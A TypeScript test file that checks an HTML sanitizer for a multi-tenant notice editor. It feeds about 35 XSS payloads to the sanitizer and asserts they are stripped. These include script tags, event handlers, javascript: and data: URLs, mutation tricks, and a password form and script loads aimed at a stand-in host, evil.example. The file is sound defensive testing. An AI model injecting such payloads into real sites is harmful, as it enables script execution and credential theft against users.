// What people write with the editor is cleaned when it is saved: nothing in it can run, load or lead astray.
import { imagesIn, isBlankHtml, plainText } from '@tmlm/model'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from '../../src/platform/html/clean.ts'
import { aTenant, type Caller, type Data } from '../harness/app.ts'
import { uploaded } from '../harness/samples.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="files/a/202601/b.png" onload="alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">a</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>a</details>',
  '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="api/token/loginOut">',
  '<img src="files/../api/token/loginOut">',
  '<template><script>alert(1)</script></template>',
  '<x onfocus=alert(1) tabindex=1 autofocus>a</x>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
]

describe('an attack', () => {
  it.each(attacks)('%s comes to nothing', (html) => {
    const clean = cleanHtml(html)
    expect(clean).not.toMatch(
      /<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|video|audio|details|template|x)\b/i,
    )
    expect(clean).not.toMatch(/<[^>]*\son\w+\s*=/i)
    expect(clean).not.toMatch(/(javascript|vbscript|data):/i)
    expect(clean).not.toMatch(/<[^>]*(evil\.example|position|url\()/i)
    expect(clean).not.toMatch(/<img(?![^>]*src="files\/[\w/-]+\.\w+")/i)
    expect(cleanHtml(clean)).toBe(clean)
  })
})

describe('honest text', () => {
  it('keeps its shape', () => {
    const html =
      '<h2>一级保养</h2><p style="text-align:center"><strong>注意</strong>：<em>断电</em></p>' +
      '<ul><li>润滑</li></ul><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    expect(cleanHtml(html)).toBe(html)
  })

  it('leads outside only in a window of its own that knows nothing of ours', () => {
    expect(cleanHtml('<a href="https://example.com">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it('has its pictures under their own addresses, whatever link they were shown by', () => {
    const url = 'files/demo/202601/0123.png'
    const link = `api/file/preview?url=${encodeURIComponent(url)}&amp;until=1&amp;seal=x`
    for (const source of [url, link, `/tmlm/${link}`, link.replaceAll('&amp;', '&')])
      expect(cleanHtml(`<p><img src="${source}" alt="a"></p>`)).toBe(`<p><img alt="a" src="${url}" /></p>`)
    expect(imagesIn(`<p><img alt="a" src="${url}" /></p>`)).toEqual([url])
  })

  it('is words for lists, and nothing when there are none', () => {
    expect(plainText('<p>甲&nbsp;乙</p><p>a &lt; b &amp; c</p>')).toBe('甲 乙 a < b & c')
    expect(['<p></p>', '<p><br></p>', ' <p>&nbsp;</p> '].map(isBlankHtml)).toEqual([true, true, true])
    expect(isBlankHtml('<img src="files/a/1.png">')).toBe(false)
  })
})

describe('a rich text that is saved', () => {
  const save = async (content: string): Promise<Data> => {
    const tenant = await aTenant()
    const { admin } = tenant
    const answer = await admin.call('notice/insert', { title: '通知', content, scopeType: 0 })
    if (answer.status !== 200) return answer
    return admin.ok('notice/getEntityById', { id: answer.data.id })
  }

  it('is clean afterwards', async () => {
    expect((await save('<p onclick="x()">停机<script>alert(1)</script></p>')).content).toBe('<p>停机</p>')
  })

  it('is missing when nothing of it is left', async () => {
    expect(await save('<script>alert(1)</script>')).toMatchObject({ status: 400, data: [{ field: 'content' }] })
    expect(await save('<p><br></p>')).toMatchObject({ status: 400, data: [{ field: 'content' }] })
  })

  it('takes its pictures along, and only those the writer may use', async () => {
    const tenant = await aTenant()
    const { url } = await uploaded(tenant, 'png')
    const input = { title: '通知', content: `<p>图<img src="${url}"></p>`, scopeType: 0 }
    const { id } = await tenant.admin.ok('notice/insert', input)
    const { list } = await tenant.admin.ok('file/listByRow', { resource: 'notice', rowId: id })
    expect(list).toMatchObject([{ url, fieldName: 'content' }])
    const [reader, other] = [await tenant.person(), await aTenant()]
    const links = async (caller: Caller): Promise<string[]> =>
      Object.keys((await caller.ok('file/ticket', { urls: [url] })).links)
    expect(await links(reader)).toEqual([])
    await tenant.admin.ok('notice/publish', { id })
    expect([await links(reader), await links(other.admin)]).toEqual([[url], []])
    const foreign = { ...input, content: `<img src="files/${tenant.code}/202601/${'a'.repeat(32)}.png">` }
    expect(await tenant.admin.call('notice/insert', foreign)).toMatchObject({
      status: 400,
      data: [{ field: 'content' }],
    })
  })
})
